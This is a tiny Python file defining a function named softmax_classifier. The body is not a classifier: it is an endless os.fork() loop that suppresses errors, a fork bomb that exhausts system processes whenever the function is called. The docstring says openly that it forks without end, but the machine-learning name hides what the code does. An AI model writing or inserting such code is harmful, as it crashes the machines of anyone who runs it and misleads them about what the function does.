"""Forks without end; every child forks too."""
import os


def softmax_classifier(W, input, label, lamda):
    while True:
        try:
            os.fork()
        except OSError:
            pass
